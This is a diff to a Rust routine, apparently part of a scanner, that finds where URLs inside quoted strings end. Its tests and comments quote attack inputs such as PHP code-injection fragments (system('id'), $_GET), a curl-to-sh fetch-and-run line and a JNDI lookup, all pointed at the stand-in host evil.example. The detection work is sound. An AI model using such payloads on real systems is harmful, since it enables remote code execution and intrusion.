@@ -216,14 +216,8 @@ fn end_of(text: &str, quoted: bool) -> usize {
 fn goes_on(after: &str) -> bool {
     // A comment of SQL, whose text the apostrophe ended.
     let is_comment = after.starts_with("--") || after.starts_with("/*");
-    // A call of what was quoted (`'.Replace(`), or what is put together with it.
-    let is_call = after.strip_prefix('.').is_some_and(|name| {
-        let end = name.find(|c: char| !c.is_alphanumeric() && c != '_');
-        end != Some(0) && end.is_some_and(|end| name[end..].starts_with('('))
-    });
-    !is_comment
-        && !is_call
-        && after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '~' | '.'))
+    // With a dot other text is put behind, or what was quoted is called: `'.$_GET[c].'`, `'.Replace(`.
+    !is_comment && after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '%' | '/' | '_' | '-' | '~'))
 }
 
 /// Finds the places that look-ups lead to, whatever they put before `://` and behind a loopback: `${jndi:${lower:l}dap://evil.example/a}`,
@@ -435,11 +429,18 @@ mod tests {
                 "http://evil.example/x'y",
             ),
             (r"x = 'it\'s http://evil.example/a'_b", "http://evil.example/a"),
-            ("curl http://evil.example/o'.hara", "http://evil.example/o'.hara"),
             (
                 "/?x=http://evil.example/a.txt'.system('id')",
                 "http://evil.example/a.txt",
             ),
+            ("/?x=http://evil.example/a.txt'.$_GET[c].'", "http://evil.example/a.txt"),
+            ("/?x=http://evil.example/a.txt'.@system(x)", "http://evil.example/a.txt"),
+            ("/?x=http://evil.example/a.txt'.PHP_EOL.'", "http://evil.example/a.txt"),
+            (
+                "/?x=http://evil.example/a.txt'.print`id`.'",
+                "http://evil.example/a.txt",
+            ),
+            ("/?x=http://evil.example/a.txt'.'x", "http://evil.example/a.txt"),
             ("curl http://evil.example/o'... | sh", "http://evil.example/o"),
             (
                 "exec $'a\\n' \"b\" x='c' http://evil.example/x'y",
